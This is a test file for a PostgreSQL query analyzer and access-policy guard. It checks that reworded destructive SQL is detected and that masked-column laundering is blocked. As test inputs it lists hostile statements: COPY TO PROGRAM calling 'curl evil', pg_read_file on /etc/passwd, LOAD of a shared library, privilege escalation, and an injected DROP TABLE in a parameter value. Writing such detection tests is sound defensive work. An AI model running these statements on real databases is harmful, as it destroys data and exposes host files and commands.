// The analyzer must see the dangerous statement however it is worded.
import assert from 'node:assert/strict'
import type {Identity} from '../../../src/identity/types.js'
import {judgeOperation} from '../../../src/policy/evaluate.js'
import {parsePolicy} from '../../../src/policy/load.js'
import type {Statement} from '../../../src/policy/types.js'
import {analyzePostgres, forgetPrepared, judgeStartupParameters, preparedStatements, rememberPrepared, splitStartupOptions} from '../../../src/sql/pg-analyze.js'
import {loadPgParser} from '../../../src/sql/pg-parser.js'

before(() => loadPgParser())

/** The first statement of the analysis that satisfies `pred`, or fail with the whole analysis. */
function find(sql: string, pred: (s: Statement) => boolean): Statement {
  const op = analyzePostgres(sql)
  const s = op.statements.find(pred)
  assert.ok(s, `${sql} => ${JSON.stringify(op)}`)
  return s
}

describe('sql: analyzePostgres rewordings', () => {
  const dangerous: Array<[string, (s: Statement) => boolean]> = [
    ['dRoP tAbLe x', (s) => s.kind === 'drop' && s.command === 'DROP TABLE' && s.tables.includes('x')],
    ['DROP/*c*/TABLE x', (s) => s.kind === 'drop' && s.tables.includes('x')],
    ['DROP\n-- comment\nTABLE "X"', (s) => s.kind === 'drop' && s.tables.includes('X')],
    ['select 1; drop table x', (s) => s.kind === 'drop' && s.index === 1],
    ['select 1;drop table x;select 2', (s) => s.kind === 'drop' && s.index === 1],
    ['PREPARE p AS DELETE FROM t; EXECUTE p', (s) => s.kind === 'delete' && s.via === 'prepare' && s.hasWhere === false],
    ['WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', (s) => s.kind === 'delete' && s.via === 'cte' && s.hasWhere === false],
    ['SELECT * FROM (WITH u AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM u) q', (s) => s.kind === 'update' && s.via === 'cte'],
    ['DO $$ BEGIN EXECUTE \'drop table x\'; END $$', (s) => s.kind === 'do' && s.opaque === true && s.writes],
    ['DO $$ BEGIN EXECUTE \'drop table x\'; END $$', (s) => s.kind === 'drop' && s.via === 'do'],
    ['do language plpgsql $x$ begin delete from t; end $x$', (s) => s.kind === 'delete' && s.via === 'do' && s.hasWhere === false],
    ['COPY t FROM PROGRAM \'id\'', (s) => s.kind === 'copy' && s.copyProgram === true && s.writes],
    ['copy (select 1) to program \'curl evil\'', (s) => s.kind === 'copy' && s.copyProgram === true && s.writes],
    ['COPY t TO \'/etc/passwd\'', (s) => s.kind === 'copy' && s.copyFile === true && s.writes],
    ['EXPLAIN ANALYZE DELETE FROM t', (s) => s.kind === 'delete' && s.writes && s.via === 'explain' && s.command === 'EXPLAIN ANALYZE DELETE'],
    ['explain (analyze, format json) update t set a = 1', (s) => s.kind === 'update' && s.hasWhere === false],
    ['TRUNCATE public.t', (s) => s.kind === 'truncate' && s.tables.includes('public.t')],
    ['select pg_sleep(10)', (s) => s.functions.includes('pg_sleep')],
    ['select * from pg_catalog.pg_read_file(\'/etc/passwd\')', (s) => s.functions.includes('pg_catalog.pg_read_file')],
    ['select dblink_exec(\'host=x\', \'drop table y\')', (s) => s.functions.includes('dblink_exec') && s.writes],
    ['SELECT * FROM t FOR UPDATE', (s) => s.kind === 'select' && s.locksRows === true && s.writes],
    ['SELECT * INTO copy_t FROM t', (s) => s.kind === 'ddl' && s.command === 'SELECT INTO' && s.tables.includes('copy_t') && s.writes],
    ['CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ DELETE FROM t $$', (s) => s.kind === 'ddl' && s.command === 'CREATE FUNCTION' && s.opaque === true],
    ['CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ DELETE FROM t $$', (s) => s.kind === 'delete' && s.via === 'function'],
    ['CALL do_things()', (s) => s.kind === 'call' && s.writes && s.functions.includes('do_things')],
    ['GRANT ALL ON t TO public', (s) => s.kind === 'grant' && s.writes],
    ['ALTER ROLE me SUPERUSER', (s) => s.kind === 'grant'],
    ['SET default_transaction_read_only = off', (s) => s.kind === 'set' && s.writes],
    ['BEGIN READ WRITE', (s) => s.kind === 'transaction' && s.writes],
    ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', (s) => s.kind === 'merge' && s.writes],
    ['INSERT INTO audit.log SELECT * FROM t', (s) => s.kind === 'insert' && s.tables.includes('audit.log') && s.tables.includes('t')],
    ['LOAD \'/tmp/evil.so\'', (s) => s.writes],
  ]
  for (const [sql, pred] of dangerous) {
    it(`sees through: ${sql.replace(/\n/g, ' ')}`, () => {
      find(sql, pred)
    })
  }

  it('tells DELETE with a WHERE from DELETE without one', () => {
    assert.equal(find('DELETE FROM t WHERE id = 7', (s) => s.kind === 'delete').hasWhere, true)
    assert.equal(find('DELETE FROM t', (s) => s.kind === 'delete').hasWhere, false)
    assert.equal(find('update t set a = 1 where id = 2', (s) => s.kind === 'update').hasWhere, true)
    assert.equal(find('update t set a = 1', (s) => s.kind === 'update').hasWhere, false)
  })

  it('reads are not writes, and CTE names are not tables', () => {
    const op = analyzePostgres('WITH recent AS (SELECT * FROM public.orders) SELECT count(*) FROM recent JOIN customers c USING (id)')
    assert.equal(op.statements.length, 1)
    assert.deepEqual({...op.statements[0], tables: op.statements[0].tables.sort()}, {kind: 'select', command: 'SELECT', tables: ['customers', 'public.orders'], writes: false, functions: ['count'], index: 0})
    assert.equal(find('EXPLAIN DELETE FROM t', () => true).kind, 'explain')
    assert.equal(find('EXPLAIN (ANALYZE false) DELETE FROM t', () => true).writes, false)
    assert.equal(find('SHOW search_path', () => true).writes, false)
    assert.equal(find('BEGIN', () => true).writes, false)
  })

  it('judges EXECUTE by the session\'s prepared statements', () => {
    const prepared = new Map<string, Statement[]>()
    analyzePostgres('PREPARE wipe AS DELETE FROM t', {prepared})
    const op = analyzePostgres('EXECUTE wipe', {prepared})
    assert.deepEqual(op.statements.map((s) => [s.kind, s.via]), [['delete', 'execute']])
    assert.equal(analyzePostgres('EXECUTE unknown').statements[0].kind, 'execute')
  })

  it('never throws on deeply nested input: analyzed, or reported unparsable', () => {
    for (const n of [100, 3000, 20000]) {
      const op = analyzePostgres('select ' + 'f('.repeat(n) + '1' + ')'.repeat(n))
      assert.ok(op.unparsable || op.statements[0].functions.includes('f'), `depth ${n}`)
    }
  })

  it('reports unparsable SQL with the parser\'s message', () => {
    const op = analyzePostgres('DROP TABEL x')
    assert.deepEqual(op.statements, [])
    assert.match(op.unparsable?.reason ?? '', /syntax error at or near "TABEL"/)
  })
})

describe('sql + policy: guardrails hold against rewording', () => {
  const policy = parsePolicy(
    `version: 1
rules:
  - {id: all, effect: allow}
  - id: no-drop
    match: {kinds: [drop, truncate]}
    effect: block
  - id: unbounded-writes
    match: {kinds: [update, delete], where: absent}
    effect: block
  - {id: no-program, effect: block, match: {copyProgram: true}}
  - {id: no-do, effect: block, match: {kinds: [do]}}
`,
    'p.yaml',
  )
  const alice: Identity = {kind: 'user', subject: 'a', name: 'alice', email: 'alice@example.com', groups: []}
  const judge = (sql: string) => judgeOperation(policy, alice, {name: 'db', type: 'postgres'}, analyzePostgres(sql))

  const cases: Array<[string, string]> = [
    ['dRoP tAbLe x', 'no-drop'],
    ['DROP/*c*/TABLE x', 'no-drop'],
    ['select 1; drop table x', 'no-drop'],
    ['PREPARE p AS DELETE FROM t; EXECUTE p', 'unbounded-writes'],
    ['WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', 'unbounded-writes'],
    ['DO $$ BEGIN EXECUTE \'drop table x\'; END $$', 'no-drop'],
    ['DO $$ BEGIN PERFORM 1; END $$', 'no-do'],
    ['COPY t FROM PROGRAM \'id\'', 'no-program'],
    ['EXPLAIN ANALYZE DELETE FROM t', 'unbounded-writes'],
    ['DELETE FROM t', 'unbounded-writes'],
    ['DELETE FROM t WHERE true', 'unbounded-writes'],
    ['DELETE FROM t WHERE id = 7', 'all'],
    ['select * from t', 'all'],
    ['SELEC 1', 'default-unparsable'],
  ]
  for (const [sql, ruleId] of cases) {
    it(`${sql} -> ${ruleId}`, () => {
      const d = judge(sql)
      assert.equal(d.ruleId, ruleId, JSON.stringify(d))
      assert.equal(d.effect, ruleId === 'all' ? 'allow' : 'block')
    })
  }
})

describe('sql: analyzePostgres judges what the server will do (issue 12)', () => {
  it("pg_dump's set_config(name, ...) FROM pg_settings WHERE name = '...' is the SET of that one setting; without the WHERE it stays unseen", () => {
    const dump = analyzePostgres("SELECT set_config(name, 'view, foreign-table', false) FROM pg_settings WHERE name = 'restrict_nonsystem_relation_kind'").statements
    assert.deepEqual(dump.find((x) => x.kind === 'set')?.settings, ['restrict_nonsystem_relation_kind'])
    assert.ok(dump.every((x) => x.unseen === undefined))
    const flipped = analyzePostgres("SELECT set_config(name, 'replica', false) FROM pg_catalog.pg_settings WHERE 'session_replication_role' = name").statements
    assert.deepEqual(flipped.find((x) => x.kind === 'set')?.settings, ['session_replication_role'])
    assert.ok(analyzePostgres("SELECT set_config(name, 'x', false) FROM pg_settings").statements.some((x) => x.unseen !== undefined))
    assert.ok(analyzePostgres("SELECT set_config(name, 'x', false) FROM pg_settings, t WHERE name = 'a'").statements.some((x) => x.unseen !== undefined))
  })

  it('LOCK in a mode a read-only transaction allows is not a write (pg_dump takes ACCESS SHARE); stronger modes are', () => {
    for (const mode of ['ACCESS SHARE', 'ROW SHARE', 'ROW EXCLUSIVE']) assert.equal(analyzePostgres(`LOCK TABLE t IN ${mode} MODE`).statements[0].writes, false, mode)
    for (const q of ['LOCK TABLE t', 'LOCK t IN SHARE MODE', 'LOCK t IN ACCESS EXCLUSIVE MODE']) assert.equal(analyzePostgres(q).statements[0].writes, true, q)
  })

  const only = (sql: string, opts = {}) => {
    const op = analyzePostgres(sql, opts)
    assert.ok(!op.unparsable, `${sql} => ${JSON.stringify(op)}`)
    return op.statements
  }

  describe('EXPLAIN options, as PostgreSQL applies them', () => {
    const runs: Array<[string, boolean]> = [
      ['EXPLAIN (ANALYZE false, ANALYZE) DELETE FROM t', true],
      ['EXPLAIN (ANALYZE, ANALYZE false) DELETE FROM t', false],
      ['EXPLAIN (ANALYZE off, ANALYZE on) DELETE FROM t', true],
      ["EXPLAIN (ANALYZE 'TRUE') DELETE FROM t", true],
      ['EXPLAIN (ANALYZE 1) DELETE FROM t', true],
      ['EXPLAIN (ANALYZE 0) DELETE FROM t', false],
      ['EXPLAIN (analyze FALSE, format json, analyze TRUE) DELETE FROM t', true],
      ['EXPLAIN (VERBOSE, ANALYZE OFF) DELETE FROM t', false],
      // PostgreSQL rejects these (defGetBoolean): judged as if they ran, the stricter reading.
      ['EXPLAIN (ANALYZE yes) DELETE FROM t', true],
      ['EXPLAIN (ANALYZE no) DELETE FROM t', true],
      ['EXPLAIN (ANALYZE 2) DELETE FROM t', true],
      ['EXPLAIN ANALYZE VERBOSE DELETE FROM t', true],
      ['EXPLAIN DELETE FROM t', false],
    ]
    for (const [sql, ran] of runs) {
      it(`${sql} ${ran ? 'runs' : 'does not run'} the DELETE`, () => {
        const s = only(sql)[0]
        assert.equal(s.kind, ran ? 'delete' : 'explain')
        assert.equal(s.writes, ran)
      })
    }
  })

  describe('WHERE clauses that bound nothing count as absent', () => {
    const cases: Array<[string, boolean]> = [
      ['DELETE FROM t WHERE true', false],
      ['DELETE FROM t WHERE 1 = 1', false],
      ["DELETE FROM t WHERE 'a' = 'a'", false],
      ['DELETE FROM t WHERE id = id', false],
      ['DELETE FROM t WHERE t.id IS NOT DISTINCT FROM t.id', false],
      ['DELETE FROM t WHERE id = 3 OR 1 = 1', false],
      ['DELETE FROM t WHERE NOT false', false],
      ['DELETE FROM t WHERE random() < 2', false],
      ['DELETE FROM t WHERE EXISTS (SELECT 1 FROM u)', false],
      ['DELETE FROM t WHERE (SELECT true)', false],
      ['DELETE FROM t x WHERE EXISTS (SELECT 1 FROM t WHERE t.id = 1)', false],
      ['DELETE FROM t USING u WHERE u.flag', false],
      ['UPDATE t SET a = 1 WHERE current_user = \'x\'', false],
      ['DELETE FROM t WHERE id = 3', true],
      ['DELETE FROM t WHERE 1 = 1 AND id = 3', true],
      ['DELETE FROM t WHERE id = 3 OR id = 4', true],
      ['DELETE FROM t x WHERE x.id > 3', true],
      ['DELETE FROM public.t WHERE public.t.id > 3', true],
      ['DELETE FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.id = t.id)', true],
      ['DELETE FROM t USING u WHERE t.id = u.id', true],
      ['UPDATE t SET a = u.a FROM u WHERE t.id = u.id', true],
      ['DELETE FROM t WHERE CURRENT OF c', true],
    ]
    for (const [sql, bounded] of cases) {
      it(`${sql}: where ${bounded ? 'present' : 'absent'}`, () => {
        assert.equal(only(sql)[0].hasWhere, bounded)
      })
    }
  })

  it('INSERT ... ON CONFLICT DO UPDATE is also an update', () => {
    const upsert = (sql: string) => only(sql).find((s) => s.via === 'upsert')
    assert.equal(upsert('INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING'), undefined)
    const listed = upsert('INSERT INTO t VALUES (1, 2) ON CONFLICT (id) DO UPDATE SET v = excluded.v')
    assert.deepEqual([listed?.kind, listed?.hasWhere, listed?.writes], ['update', true, true])
    assert.equal(upsert('INSERT INTO t SELECT * FROM u ON CONFLICT (id) DO UPDATE SET v = 0')?.hasWhere, false)
    assert.equal(upsert('INSERT INTO t SELECT * FROM u ON CONFLICT (id) DO UPDATE SET v = 0 WHERE t.v > 3')?.hasWhere, true)
    assert.equal(upsert('INSERT INTO t SELECT * FROM u ON CONFLICT (id) DO UPDATE SET v = 0 WHERE 1 = 1')?.hasWhere, false)
    // The INSERT itself is still there for rules about inserts.
    assert.equal(only('INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET v = 1')[0].kind, 'insert')
  })

  it('MERGE is judged by its WHEN actions; its join condition is not a WHERE', () => {
    const parts = (sql: string) => only(sql).map((s) => `${s.kind}:${String(s.hasWhere)}`)
    assert.deepEqual(parts('MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE'), ['merge:false', 'delete:false'])
    assert.deepEqual(parts('MERGE INTO t USING s ON t.id = s.id WHEN MATCHED AND t.v > 1 THEN UPDATE SET v = s.v'), ['merge:true', 'update:true'])
    assert.deepEqual(parts('MERGE INTO t USING s ON t.id = s.id WHEN MATCHED AND s.v > 1 THEN UPDATE SET v = 0'), ['merge:false', 'update:false'])
    assert.deepEqual(parts('MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED THEN INSERT VALUES (s.id)'), ['merge:undefined', 'insert:undefined'])
    assert.deepEqual(parts('MERGE INTO t USING s ON true WHEN MATCHED AND t.id = 1 THEN DELETE WHEN MATCHED THEN UPDATE SET v = 1 WHEN NOT MATCHED THEN DO NOTHING'), ['merge:false', 'delete:true', 'update:false'])
  })

  it('set_config is judged like SET (what pg_dump sends)', () => {
    const [sel, set] = only("SELECT pg_catalog.set_config('search_path', '', false)")
    assert.deepEqual([sel.kind, sel.writes], ['select', false])
    assert.deepEqual([set.kind, set.settings, set.via, set.writes], ['set', ['search_path'], 'function', false])
    assert.equal(only("SELECT set_config('default_transaction_read_only', 'off', false)")[1].writes, true)
    assert.equal(only("SELECT set_config('default_transaction_read_only', 'on', false)")[1].writes, false)
    assert.match(only("SELECT set_config(current_user, 'x', false)")[1].unseen ?? '', /computed at run time/)
    assert.equal(only("SELECT set_config('transaction_read_only', (SELECT 'off'), true)")[1].writes, true)
  })

  it('SET values are read as PostgreSQL reads booleans, and modes hoop cannot lex are unseen', () => {
    for (const v of ['on', 'true', 'yes', '1', 'TR', 'y']) assert.equal(only(`SET default_transaction_read_only = ${v === '1' ? v : `'${v}'`}`)[0].writes, false, v)
    for (const v of ['off', 'false', 'no', '0', 'of', 'f']) assert.equal(only(`SET default_transaction_read_only = '${v}'`)[0].writes, true, v)
    assert.equal(only('RESET default_transaction_read_only')[0].writes, true)
    assert.match(only('SET standard_conforming_strings = off')[0].unseen ?? '', /standard_conforming_strings/)
    assert.match(only("SET standard_conforming_strings TO 'no'")[0].unseen ?? '', /standard_conforming_strings/)
    assert.equal(only('SET standard_conforming_strings = on')[0].unseen, undefined)
    assert.match(only("SET NAMES 'SJIS'")[0].unseen ?? '', /SJIS/)
    assert.match(only("SET client_encoding = 'shift-jis-2004'")[0].unseen ?? '', /encoding/)
    assert.match(only("SELECT set_config('client_encoding', 'BIG5', false)")[1].unseen ?? '', /BIG5/)
    assert.equal(only("SET client_encoding = 'UTF8'")[0].unseen, undefined)
  })

  describe('SQL text given to functions that execute it', () => {
    it('is judged on its parse when it is a literal', () => {
      const inner = (sql: string) => only(sql).filter((s) => s.via === 'sql-text')
      assert.ok(inner("select query_to_xml('select pg_read_file(''/etc/passwd'')', true, false, '')")[0].functions.includes('pg_read_file'))
      assert.ok(only("select query_to_xml('select lo_import(''/etc/passwd'')', true, false, '')")[0].functions.includes('lo_import'))
      assert.equal(inner("select * from dblink('dbname=test', 'drop table t') as x(a text)")[0].kind, 'drop')
      assert.equal(inner("select dblink_exec('delete from t')")[0].hasWhere, false)
      assert.equal(inner("select dblink('delete from t', false)")[0].kind, 'delete')
      assert.equal(inner("select dblink_open('c', 'select * from secrets')")[0].tables[0], 'secrets')
      assert.equal(inner("select pg_catalog.query_to_xmlschema($q$select 1; drop table t$q$, true, false, '')")[1].kind, 'drop')
      assert.equal(inner("select query_to_xml(query => 'truncate t', nulls => true, tableforest => false, targetns => '')")[0].kind, 'truncate')
      assert.equal(inner("select query_to_xml('select query_to_xml(''drop table t'', true, false, '''')', true, false, '')")[1].kind, 'drop')
      assert.ok(inner("select ts_stat('select pg_read_binary_file(''/x'')::tsvector')")[0].functions.includes('pg_read_binary_file'))
    })

    it('is unseen when it is computed at run time', () => {
      for (const sql of [
        "select query_to_xml('sel' || 'ect 1', true, false, '')",
        "select query_to_xml(current_setting('my.sql'), true, false, '')",
        "select dblink('dbname=test', (select q from jobs limit 1))",
        "select query_to_xml(nulls => true, tableforest => false, targetns => '', query => format('select %s', 1))",
        "select query_to_xml('select * from ((((', true, false, '')",
        "select schema_to_xml('public', true, false, '')",
        'select table_to_xml(current_setting(\'x\')::regclass, true, false, \'\')',
      ]) {
        const unseen = only(sql).find((s) => s.unseen)
        assert.ok(unseen, sql)
      }
    })

    it('table_to_xml names the table it reads', () => {
      assert.ok(only("select table_to_xml('public.\"Secrets\"', true, false, '')")[0].tables.includes('public.Secrets'))
      assert.ok(only("select table_to_xml('secrets'::regclass, true, false, '')")[0].tables.includes('secrets'))
    })
  })

  describe('prepared statements of the session', () => {
    it('EXECUTE of a name never prepared through hoop is unseen', () => {
      const s = only('EXECUTE nope')[0]
      assert.equal(s.kind, 'execute')
      assert.match(s.unseen ?? '', /EXECUTE nope: no statement of that name was prepared/)
      assert.ok(only('EXPLAIN ANALYZE EXECUTE nope')[0].unseen)
    })

    it('DEALLOCATE and DISCARD ALL retire names; what they held is still judged, and a name prepared again is judged as either', () => {
      const prepared = new Map<string, Statement[]>()
      only('PREPARE p AS DELETE FROM t WHERE id = 1', {prepared})
      only('DEALLOCATE p', {prepared})
      assert.equal(prepared.has('p'), false)
      // A refused DEALLOCATE (or one skipped after an error) leaves p on the server: EXECUTE may still run it.
      assert.deepEqual(only('EXECUTE p', {prepared}).map((s) => s.kind), ['delete'])
      only('PREPARE p AS SELECT 1', {prepared})
      assert.deepEqual(only('EXECUTE p', {prepared}).map((s) => s.kind), ['delete', 'select'])
      only('PREPARE q AS UPDATE t SET v = 1', {prepared})
      only('DISCARD ALL', {prepared})
      assert.equal(prepared.size, 0)
      assert.deepEqual(only('EXECUTE q', {prepared}).map((s) => s.kind), ['update'])
      only('DEALLOCATE ALL', {prepared})
    })

    it('PREPARE of a name already held keeps what it held (the server refuses the duplicate)', () => {
      const prepared = new Map<string, Statement[]>()
      only('PREPARE p AS DELETE FROM t', {prepared})
      only('PREPARE p AS SELECT 1', {prepared})
      assert.deepEqual(only('EXECUTE p', {prepared}).map((s) => s.kind).sort(), ['delete', 'select'])
    })

    it('statements prepared with protocol Parse share the namespace (rememberPrepared)', () => {
      const prepared = new Map<string, Statement[]>()
      rememberPrepared(prepared, 's1', analyzePostgres('DELETE FROM t').statements)
      assert.deepEqual(only('EXECUTE s1', {prepared}).map((s) => s.kind), ['delete'])
      forgetPrepared(prepared, 's1')
      assert.equal(preparedStatements(prepared, 's1')?.[0].kind, 'delete')
    })

    it('CREATE TABLE AS EXECUTE judges what EXECUTE runs', () => {
      const prepared = new Map<string, Statement[]>()
      only("PREPARE p AS SELECT pg_read_file('/etc/passwd')", {prepared})
      assert.ok(only('CREATE TABLE x AS EXECUTE p', {prepared}).some((s) => s.via === 'execute' && s.functions.includes('pg_read_file')))
      assert.ok(only('CREATE TABLE x AS EXECUTE never').some((s) => s.unseen))
    })
  })

  describe('laundering facts: what a statement stores and which columns flow into it', () => {
    const stores = (sql: string) =>
      only(sql).flatMap((s) => (s.stores ?? []).map((st) => `${st.stores}<-${st.flows.map((f) => [f.from.table ?? '?', f.from.column].join('.') + (f.into ? `>${f.into.column}` : '')).join(',')}`))
    const cases: Array<[string, string[]]> = [
      ['CREATE TABLE x AS SELECT email FROM customers', ['table<-customers.email']],
      ['CREATE TABLE x AS SELECT email FROM customers WITH NO DATA', []],
      ['CREATE MATERIALIZED VIEW x AS SELECT upper(c.email) FROM customers c', ['table<-customers.email']],
      ['SELECT * INTO TEMP x FROM customers', ['table<-customers.*']],
      ['INSERT INTO log (a) SELECT lower(email) FROM customers', ['table<-customers.email>a']],
      ['INSERT INTO log SELECT e FROM (SELECT email AS e FROM customers) s', ['table<-customers.email']],
      ['INSERT INTO log VALUES ((SELECT email FROM customers LIMIT 1))', ['table<-customers.email']],
      ['WITH w AS (SELECT email FROM customers) INSERT INTO log SELECT * FROM w', ['table<-customers.email']],
      ['UPDATE customers SET name = email', ['table<-customers.email>name']],
      ['UPDATE log SET a = c.email FROM customers c WHERE c.id = log.id', ['table<-customers.email>a']],
      ['UPDATE customers SET name = upper(name) WHERE email = \'x\'', ['table<-customers.name>name']],
      ["SELECT set_config('my.v', email, false) FROM customers", ['setting<-customers.email']],
      ["SELECT set_config('my.v', (SELECT email FROM customers LIMIT 1), false)", ['setting<-customers.email']],
      ["SELECT lo_from_bytea(0, convert_to(email, 'UTF8')) FROM customers", ['large-object<-customers.email']],
      ['SELECT setval(\'s\', length(email)) FROM customers', ['sequence<-customers.email']],
      ["SELECT pg_notify('c', email) FROM customers", ['notification<-customers.email']],
      ["COPY (SELECT email FROM customers) TO '/tmp/x'", ['file<-customers.email']],
      ["COPY customers (email) TO PROGRAM 'cat'", ['program<-customers.email']],
      ['COPY customers TO STDOUT', []],
      ['SELECT email FROM customers', []],
      ["CREATE TABLE x AS SELECT query_to_xml('select email from customers', true, false, '')", ['table<-customers.email']],
      // Stores nothing itself but runs SQL text that does: the outer statement reports the store too (its flow walk is not skipped).
      ["SELECT query_to_xml('select set_config(''my.v'', email, false) from customers', true, false, '')", ['setting<-customers.email', 'setting<-customers.email', 'setting<-customers.email']],
      ['WITH d AS (INSERT INTO log SELECT email FROM customers RETURNING 1) SELECT 1', ['table<-customers.email']],
      ['CREATE VIEW v AS SELECT email FROM customers', ['view<-customers.email']],
      ['MERGE INTO log USING customers c ON log.id = c.id WHEN MATCHED THEN UPDATE SET a = c.email', ['table<-customers.email>a']],
      ['INSERT INTO log SELECT row_to_json(c) FROM customers c', ['table<-customers.c', 'table<-customers.*'].slice(0, 1)],
    ]
    for (const [sql, want] of cases) {
      it(sql, () => {
        const got = stores(sql)
        if (sql.includes('row_to_json')) assert.ok(got[0].includes('customers.*'), got.join(' '))
        else assert.deepEqual(got, want)
      })
    }

    it('names what DDL renames or alters, and statistics reads', () => {
      assert.deepEqual(only('ALTER TABLE customers RENAME COLUMN email TO e')[0].alters, [{table: 'customers', column: 'email'}])
      assert.deepEqual(only('ALTER TABLE public.customers RENAME TO c2')[0].alters, [{schema: 'public', table: 'customers', column: '*'}])
      assert.deepEqual(only('ALTER TABLE customers ALTER COLUMN email TYPE text USING reverse(email)')[0].alters, [{table: 'customers', column: '*'}])
      assert.deepEqual(only('ALTER SCHEMA public RENAME TO p2')[0].alters, [{schema: 'public', table: '*', column: '*'}])
      assert.deepEqual(only('ALTER TABLE customers SET SCHEMA other')[0].alters, [{table: 'customers', column: '*'}])
      assert.deepEqual(only('CREATE TRIGGER t AFTER UPDATE ON customers FOR EACH ROW EXECUTE FUNCTION f()')[0].alters, [{table: 'customers', column: '*'}])
      for (const sql of ['SELECT * FROM pg_stats', 'SELECT most_common_vals FROM pg_catalog.pg_stats_ext', 'SELECT * FROM pg_mcv_list_items(0)', "SELECT query_to_xml('select * from pg_statistic', true, false, '')", "SELECT table_to_xml('pg_stats', true, false, '')"]) {
        assert.ok(only(sql)[0].readsStatistics, sql)
      }
    })
  })

  it('never throws: any analyser failure is reported unparsable', () => {
    const deep = 'select ' + '('.repeat(5000) + '1' + ')'.repeat(5000)
    const op = analyzePostgres(deep)
    assert.ok(op.unparsable || op.statements.length === 1)
    const wide = 'select ' + Array.from({length: 2000}, (_, i) => `query_to_xml('select ${i}', true, false, '')`).join(', ')
    assert.ok(analyzePostgres(wide).statements.length > 0)
  })
})

describe('sql + policy: masked data cannot be laundered (built-in rules)', () => {
  const policy = parsePolicy(
    `version: 1
rules:
  - {id: all, effect: allow}
  - {id: unbounded-writes, effect: block, match: {kinds: [update, delete], where: absent}}
  - {id: pii, effect: mask, mask: {columns: ["customers.email"]}}
`,
    'p.yaml',
  )
  const alice: Identity = {kind: 'user', subject: 'a', name: 'alice', email: 'alice@example.com', groups: []}
  const judge = (sql: string) => judgeOperation(policy, alice, {name: 'db', type: 'postgres'}, analyzePostgres(sql))
  const cases: Array<[string, string]> = [
    ['CREATE TABLE x AS SELECT email FROM customers', 'hoop.no-laundering'],
    ['CREATE TEMP TABLE x AS SELECT * FROM customers', 'hoop.no-laundering'],
    ['SELECT email INTO x FROM customers', 'hoop.no-laundering'],
    ['INSERT INTO notes (body) SELECT reverse(email) FROM customers', 'hoop.no-laundering'],
    ['UPDATE customers SET name = email WHERE id = 1', 'hoop.no-laundering'],
    ["SELECT set_config('my.v', email, false) FROM customers WHERE id = 1", 'hoop.no-laundering'],
    ["SELECT lo_from_bytea(0, convert_to(email, 'UTF8')) FROM customers", 'hoop.no-laundering'],
    ["COPY (SELECT email FROM customers) TO '/tmp/e'", 'hoop.no-laundering'],
    ["PREPARE p AS INSERT INTO notes SELECT email FROM customers", 'hoop.no-laundering'],
    ["SELECT * FROM dblink('dbname=test', 'insert into notes select email from customers') AS t(x int)", 'hoop.no-laundering'],
    ['ALTER TABLE customers RENAME COLUMN email TO e', 'hoop.masked-ddl'],
    ['ALTER TABLE customers RENAME TO c2', 'hoop.masked-ddl'],
    ['CREATE VIEW v AS SELECT email AS e FROM customers', 'hoop.masked-ddl'],
    ['SELECT * FROM pg_stats WHERE tablename = \'customers\'', 'hoop.masked-stats'],
    ['SELECT email FROM customers', 'all'],
    ["UPDATE customers SET name = 'x' WHERE email = 'a@b.c'", 'all'],
    ['INSERT INTO notes (body) SELECT name FROM customers', 'all'],
    ['ALTER TABLE orders RENAME TO o2', 'all'],
    ["SELECT pg_catalog.set_config('search_path', '', false)", 'all'],
  ]
  for (const [sql, ruleId] of cases) {
    it(`${sql} -> ${ruleId}`, () => {
      const d = judge(sql)
      assert.equal(d.ruleId, ruleId, JSON.stringify(d))
    })
  }
})

describe('sql: startup parameters judged like SET', () => {
  it('splits options as pg_split_opts does (backslash escapes, any white space)', () => {
    assert.deepEqual(splitStartupOptions('  -c a=b\t--c-d=e\\ f  -cx=\\\\y\\'), ['-c', 'a=b', '--c-d=e f', '-cx=\\y'])
    assert.deepEqual(splitStartupOptions(''), [])
  })

  it('turns -c name=value, --name=value and bare parameters into SET statements, in the order the server applies them', () => {
    const j = judgeStartupParameters([
      ['user', 'alice'],
      ['database', 'test'],
      ['session_replication_role', 'replica'],
      ['options', '-c statement_timeout=0 --default-transaction-read-only=off -cSearch_Path=a\\ b'],
    ])
    assert.equal(j.refuse, undefined)
    assert.deepEqual(j.judged.map((s) => [s.name, s.value, s.from]), [
      ['statement_timeout', '0', 'options'],
      ['default_transaction_read_only', 'off', 'options'],
      ['search_path', 'a b', 'options'],
      ['session_replication_role', 'replica', 'parameter'],
    ])
    const op = analyzePostgres(j.sql)
    assert.deepEqual(op.statements.map((s) => [s.kind, s.settings?.[0], s.writes]), [
      ['set', 'statement_timeout', false],
      ['set', 'default_transaction_read_only', true],
      ['set', 'search_path', false],
      ['set', 'session_replication_role', false],
    ])
  })

  it('passes the harmless ones unjudged, but not a client-only client encoding', () => {
    const j = judgeStartupParameters({application_name: 'psql', DateStyle: 'ISO, MDY', TimeZone: 'UTC', extra_float_digits: '3', IntervalStyle: 'iso_8601', client_encoding: 'UTF8'})
    assert.deepEqual([j.judged, j.sql, j.passed.length], [[], '', 6])
    const sjis = judgeStartupParameters({client_encoding: 'SJIS'})
    assert.match(analyzePostgres(sjis.sql).statements[0].unseen ?? '', /SJIS/)
  })

  it('quotes names and values so that they cannot break out of the SET', () => {
    const j = judgeStartupParameters({'my.opt': "x'; DROP TABLE t; --", 'we"ird': 'v'})
    const op = analyzePostgres(j.sql)
    assert.deepEqual(op.statements.map((s) => [s.kind, s.settings?.[0]]), [['set', 'my.opt'], ['set', 'we"ird']])
  })

  it('refuses what it cannot express as SET: other switches, replication, protocol options', () => {
    assert.match(judgeStartupParameters({options: '-O'}).refuse ?? '', /startup option "-O" is not supported/)
    assert.match(judgeStartupParameters({options: '-c'}).refuse ?? '', /needs name=value/)
    assert.match(judgeStartupParameters({options: '--flag'}).refuse ?? '', /needs name=value/)
    assert.match(judgeStartupParameters({options: '-- x=1'}).refuse ?? '', /not supported/)
    assert.match(judgeStartupParameters({replication: 'database'}).refuse ?? '', /replication/)
    assert.equal(judgeStartupParameters({replication: 'false'}).refuse, undefined)
